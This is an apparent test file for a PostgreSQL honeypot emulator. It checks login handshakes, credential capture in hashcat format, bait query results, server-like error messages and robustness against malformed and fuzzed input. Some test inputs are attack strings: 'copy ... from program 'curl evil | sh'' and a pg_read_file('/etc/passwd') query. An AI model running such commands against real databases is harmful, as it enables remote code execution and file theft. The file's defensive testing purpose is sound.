"""A PostgreSQL server, from its startup packet to the last row."""

import asyncio
import base64
import hashlib
import hmac
import random
import ssl
import struct
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from served import Served, use

use("postgres")

from login import md5_answer
from support import identity

from catalogue import Catalogue
from decnet_streams import Malformed
from messages import Problem, parse_parameters
from queries import Client, Result
from versions import RELEASES, release_of

OPTIONS = {"auth": "md5", "accept": [{"username": "app", "password": "secret"}], "accept_after": 0}
SMB = b"\0\0\0\xa4\xffSMBr" + b"\0" * 155


def startup(**parameters: str) -> bytes:
    body = struct.pack(">HH", 3, 0)
    for name, value in parameters.items():
        body += name.encode() + b"\0" + value.encode() + b"\0"
    return struct.pack(">I", len(body) + 5) + body + b"\0"


def message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack(">I", len(body) + 4) + body


class Frontend:
    """As much of a client as the tests need."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    def send(self, kind: bytes, body: bytes) -> None:
        self.writer.write(message(kind, body))

    async def read(self) -> tuple[bytes, bytes]:
        head = await self.reader.readexactly(5)
        return head[:1], await self.reader.readexactly(int.from_bytes(head[1:], "big") - 4)

    async def until_ready(self) -> list[tuple[bytes, bytes]]:
        found = []
        while not found or found[-1][0] not in {b"Z"}:
            found.append(await self.read())
        return found

    async def login_md5(self, username: str, password: str, **more: str) -> tuple[bytes, bytes]:
        self.writer.write(startup(user=username, **more))
        _, body = await self.read()
        self.send(b"p", b"md5" + md5_answer(username, password, body[4:]).encode() + b"\0")
        return await self.read()

    async def query(self, text: str) -> list[tuple[bytes, bytes]]:
        self.send(b"Q", text.encode() + b"\0")
        return await self.until_ready()


async def connect(served: Served) -> Frontend:
    return Frontend(*await served.connect())


def database(seed: int = 1) -> str:
    return Catalogue(identity(seed), release_of("debian")).database


class LoginTest(unittest.IsolatedAsyncioTestCase):
    async def test_refuses_as_the_real_one_and_tells_what_hashcat_reads(self) -> None:
        async with Served("postgres", OPTIONS) as served:
            frontend = await connect(served)
            kind, body = await frontend.login_md5("postgres", "hashcat", application_name="psql")
            self.assertEqual(kind, b"E")
            self.assertIn(b'C28P01\0Mpassword authentication failed for user "postgres"\0Fauth.c', body)
            (auth,) = served.events("auth")
            self.assertEqual(
                (auth["username"], auth["client"], auth["accepted"]), ("postgres", "psql", "false")
            )
            kind, user, rest = auth["hashcat"].split("$")[1], *auth["hashcat"].split("$")[2].split("*", 1)
            salt, digest = rest.split("*")
            self.assertEqual((kind, user), ("postgres", "postgres"))
            self.assertEqual(md5_answer("postgres", "hashcat", bytes.fromhex(salt)), digest)

    def test_the_hash_is_the_one_of_hashcats_own_example(self) -> None:
        salt, digest = bytes.fromhex("f0784ea5"), "2091bb7d4725d1ca85e8de6ec349baf6"
        self.assertEqual(md5_answer("postgres", "hashcat", salt), digest)

    async def test_a_password_in_the_clear_is_told(self) -> None:
        async with Served("postgres", OPTIONS | {"auth": "password", "accept_after": 2}) as served:
            for password, answer in (("a", b"E"), ("b", b"R")):
                frontend = await connect(served)
                frontend.writer.write(startup(user="bob", database="postgres"))
                self.assertEqual(await frontend.read(), (b"R", b"\0\0\0\3"))
                frontend.send(b"p", password.encode() + b"\0")
                self.assertEqual((await frontend.read())[0], answer)
            self.assertEqual([one["password"] for one in served.events("auth")], ["a", "b"])

    async def test_scram_lets_in_who_knows_the_password_and_proves_itself(self) -> None:
        async with Served("postgres", OPTIONS | {"auth": "scram-sha-256"}) as served:
            for password, accepted in (("secret", True), ("wrong", False)):
                frontend = await connect(served)
                frontend.writer.write(startup(user="app", database="postgres"))
                self.assertEqual(await frontend.read(), (b"R", b"\0\0\0\x0aSCRAM-SHA-256\0\0"))
                bare = "n=,r=abc"
                frontend.send(
                    b"p", b"SCRAM-SHA-256\0" + struct.pack(">I", len(bare) + 3) + b"n,," + bare.encode()
                )
                first = (await frontend.read())[1][4:].decode()
                nonce, salt, count = (part[2:] for part in first.split(","))
                salted = hashlib.pbkdf2_hmac("sha256", password.encode(), base64.b64decode(salt), int(count))
                key = hmac.digest(salted, b"Client Key", "sha256")
                without = f"c=biws,r={nonce}"
                signed = f"{bare},{first},{without}".encode()
                signature = hmac.digest(hashlib.sha256(key).digest(), signed, "sha256")
                proof = base64.b64encode(bytes(a ^ b for a, b in zip(key, signature, strict=True))).decode()
                frontend.send(b"p", f"{without},p={proof}".encode())
                kind, body = await frontend.read()
                if accepted:
                    server = hmac.digest(hmac.digest(salted, b"Server Key", "sha256"), signed, "sha256")
                    self.assertEqual(body, b"\0\0\0\x0cv=" + base64.b64encode(server))
                else:
                    self.assertEqual(kind, b"E")
            self.assertEqual([one["accepted"] for one in served.events("auth")], ["true", "false"])
            self.assertIn(f"{bare},{first},{without}*", served.events("auth")[1]["proof"])

    async def test_a_broken_scram_is_malformed_and_a_try(self) -> None:
        async with Served("postgres", OPTIONS | {"auth": "scram-sha-256"}) as served:
            for number, junk in enumerate((b"", b"n,,x", b"n,,n=,r=a\xff", b"q,,n=,r=a", b"n,,r=a"), 1):
                data = b"SCRAM-SHA-256\0" + struct.pack(">I", len(junk)) + junk
                answer = await served.visit(startup(user="app"), message(b"p", data))
                self.assertIn(b"malformed SCRAM message", answer)
                self.assertEqual(len(served.events("auth")), number)
                self.assertEqual(len(served.events("malformed")), number)

    async def test_tls_begins_before_the_startup_packet(self) -> None:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        async with Served("postgres", OPTIONS) as served:
            frontend = await connect(served)
            frontend.writer.write(struct.pack(">II", 8, 80877103))
            self.assertEqual(await frontend.reader.readexactly(1), b"S")
            await frontend.writer.start_tls(context)
            self.assertEqual(
                (await frontend.login_md5("app", "secret", database="postgres")), (b"R", b"\0\0\0\0")
            )
            frontend.writer.close()
        async with Served("postgres", OPTIONS, distro="rocky9") as served:
            self.assertEqual(await served.visit(struct.pack(">II", 8, 80877103)), b"N")


class SessionTest(unittest.IsolatedAsyncioTestCase):
    async def test_reads_the_bait_and_notes_each_command_once(self) -> None:
        async with Served("postgres", OPTIONS, domain="corp.example") as served:
            frontend = await connect(served)
            await frontend.login_md5("app", "secret", database=database())
            told = dict(body.split(b"\0")[:2] for kind, body in await frontend.until_ready() if kind == b"S")
            self.assertEqual(told[b"server_version"], b"15.3 (Debian 15.3-0+deb12u1)")
            answer = await frontend.query("select email from users limit 1")
            self.assertEqual([kind for kind, _ in answer], [b"T", b"D", b"C", b"Z"])
            self.assertIn(b"@corp.example", answer[1][1])
            self.assertEqual((await frontend.query(""))[0][0], b"I")
            commands = [one["command"] for one in served.events("command")]
            self.assertEqual(commands, ["select email from users limit 1", ""])

    async def test_a_database_that_there_is_not_is_fatal(self) -> None:
        async with Served("postgres", OPTIONS) as served:
            frontend = await connect(served)
            kind, body = await frontend.login_md5("app", "secret")
            self.assertIn(b'SFATAL\0VFATAL\0C3D000\0Mdatabase "app" does not exist\0', body)

    async def test_drivers_prepare_bind_and_execute(self) -> None:
        async with Served("postgres", OPTIONS) as served:
            frontend = await connect(served)
            await frontend.login_md5("app", "secret", database=database())
            await frontend.until_ready()
            frontend.send(b"P", b"s\0select name from api_keys where id = $1\0\0\0")
            frontend.send(b"D", b"Ss\0")
            frontend.send(b"B", b"\0s\0\0\0" + struct.pack(">HI", 1, 1) + b"1\0\0")
            frontend.send(b"E", b"\0\0\0\0\0")
            frontend.send(b"S", b"")
            answer = await frontend.until_ready()
            self.assertEqual([kind for kind, _ in answer], [b"1", b"t", b"T", b"2", b"D", b"C", b"Z"])
            frontend.send(b"B", b"\0nope\0\0\0\0\0\0\0")
            frontend.send(b"E", b"\0\0\0\0\0")
            frontend.send(b"S", b"")
            self.assertEqual([kind for kind, _ in await frontend.until_ready()], [b"E", b"Z"])
            self.assertEqual(
                [one["command"] for one in served.events("command")],
                ["select name from api_keys where id = '1'"],
            )

    def client(self, seed: int = 1, username: str = "app") -> Client:
        catalogue = Catalogue(identity(seed), release_of("debian"))
        return Client(catalogue, username, catalogue.database, ("192.0.2.9", "192.0.2.1"), 77)

    def test_two_deckies_differ_and_one_repeats(self) -> None:
        self.assertEqual(self.client(1).run("table users"), self.client(1).run("table users"))
        self.assertNotEqual(self.client(1).run("table users"), self.client(2).run("table users"))

    def test_errors_are_those_of_the_server(self) -> None:
        table = {
            "select nothing": ("42703", 'column "nothing" does not exist'),
            "select * from nope": ("42P01", 'relation "nope" does not exist'),
            "select * from a.b": ("42P01", 'relation "a.b" does not exist'),
            "select f(1)": ("42883", "function f(unknown) does not exist"),
            "select 'a": ("42601", 'syntax error at or near "\'a"'),
            "bogus": ("42601", 'syntax error at or near "bogus"'),
            "show nothing": ("42704", 'unrecognized configuration parameter "nothing"'),
            "select * from pg_shadow": ("42501", "permission denied for view pg_shadow"),
            "select pg_read_file('/etc/passwd')": ("42501", "permission denied for function pg_read_file"),
            "drop table users": ("42501", "must be owner of table users"),
            "create table x(a int)": ("42501", "permission denied for schema public"),
        }
        for text, (code, words) in table.items():
            (problem,) = self.client().run(text)
            self.assertIsInstance(problem, Problem, text)
            self.assertEqual((problem.code, problem.text), (code, words))

    def test_postgres_may_do_as_if_and_runs_no_program(self) -> None:
        client = self.client(username="postgres")
        self.assertEqual(client.run("create table x(a int, b text)"), [Result("CREATE TABLE")])
        self.assertEqual(
            [column.name for column in client.run("select * from x")[0].rows.columns], ["a", "b"]
        )
        (problem,) = client.run("copy x from program 'curl evil | sh'")
        self.assertEqual(
            (problem.text, problem.detail), ('program "curl evil | sh" failed', "command not found")
        )

    def test_an_error_in_a_transaction_lasts_until_its_end(self) -> None:
        client = self.client()
        client.run("begin; select nothing")
        self.assertEqual(client.transaction, b"E")
        self.assertEqual(client.run("select 1")[0].code, "25P02")
        self.assertEqual(client.run("commit"), [Result("ROLLBACK")])
        self.assertEqual(client.transaction, b"I")

    def test_every_release_tells_one_version(self) -> None:
        for distro in RELEASES:
            catalogue = Catalogue(identity(distro=distro), release_of(distro))
            client = Client(catalogue, "app", "postgres", ("", ""), 1)
            shown = client.run("show server_version")[0].rows.rows[0][0]
            self.assertIn(f"PostgreSQL {shown} on ", client.run("select version()")[0].rows.rows[0][0])

    def test_stands_whatever_is_asked(self) -> None:
        draw = random.Random(5432)
        client = self.client(username="postgres")
        words = "select show from where users * , ( ) . ; ' \" :: = like '%a%' 1 copy limit order by count create table".split()
        words += [
            "pg_catalog.pg_class",
            "é",
            "\0",
            "\udcff",
            "drop",
            "9" * 30,
            "begin",
            "$1",
            "null",
            "as",
            "and",
            "'^(a)$'",
        ]
        for _ in range(5000):
            client.run(
                draw.choice(("", "select ", "create ")) + " ".join(draw.choices(words, k=draw.randrange(9)))
            )
        for text in (
            "/*" * 8000,
            "'" * 8001,
            "(" * 16000,
            "select " + "," * 9000,
            ";" * 16000,
            "select 1::" + "a." * 7000,
        ):
            client.run(text)


class HostileTest(unittest.IsolatedAsyncioTestCase):
    async def test_nmap_reads_the_release_from_the_error(self) -> None:
        async with Served("postgres", OPTIONS) as served:
            answer = await served.visit(SMB)
            told = b"unsupported frontend protocol 65363.19778: server supports 3.0 to 3.0"
            self.assertIn(b"M" + told + b"\0Fpostmaster.c\0L2194\0RProcessStartupPacket\0\0", answer)
        async with Served("postgres", OPTIONS, distro="centos7") as served:
            self.assertNotIn(b"VFATAL", await served.visit(SMB))

    async def test_what_is_malformed_is_told_and_ends_one_connection(self) -> None:
        table = {
            b"GET / HTTP/1.0\r\n\r\n": "a startup packet of 1195725856 bytes",
            b"\0\0\0\x04": "a startup packet of 4 bytes",
            struct.pack(">II", 8, 80877104) * 9: "too many requests before the startup packet",
            startup(user="a") + b"Q\0\0\0\x05\0": "no password message",
            startup(user="a") + b"p\0\0\0\x01": "a message of 1 bytes",
            startup(user="a") + b"p\x7f\xff\xff\xff": "a message of 2147483643 bytes",
        }
        async with Served("postgres", OPTIONS) as served:
            for number, (data, error) in enumerate(table.items(), 1):
                await served.visit(data)
                await served.ended(number)
                self.assertEqual(served.events("malformed")[-1]["error"], error)

    async def test_stands_mutations(self) -> None:
        for auth in ("md5", "scram-sha-256"):
            async with Served("postgres", OPTIONS | {"accept_after": 1, "auth": auth}) as served:
                first = b"SCRAM-SHA-256\0" + struct.pack(">I", 11) + b"n,,n=,r=abc"
                conversation = [
                    startup(user="postgres", database=database()),
                    message(b"p", first if auth == "scram-sha-256" else b"md5" + b"0" * 32 + b"\0"),
                    message(b"Q", b"select * from pg_catalog.pg_class where oid = '16400'\0"),
                    message(b"P", b"s\0select * from users where id = $1\0\0\0"),
                    message(b"B", b"\0s\0\0\0" + struct.pack(">HI", 1, 1) + b"1\0\0"),
                    message(b"D", b"P\0") + message(b"E", b"\0\0\0\0\0") + message(b"S", b""),
                ]
                await served.assault(conversation, 150)

    def test_startup_parameters_are_bounded(self) -> None:
        self.assertEqual(parse_parameters(b"user\0bob\0\0"), {"user": "bob"})
        with self.assertRaises(Malformed):
            parse_parameters(b"a\0b\0" * 1000)


if __name__ == "__main__":
    unittest.main()
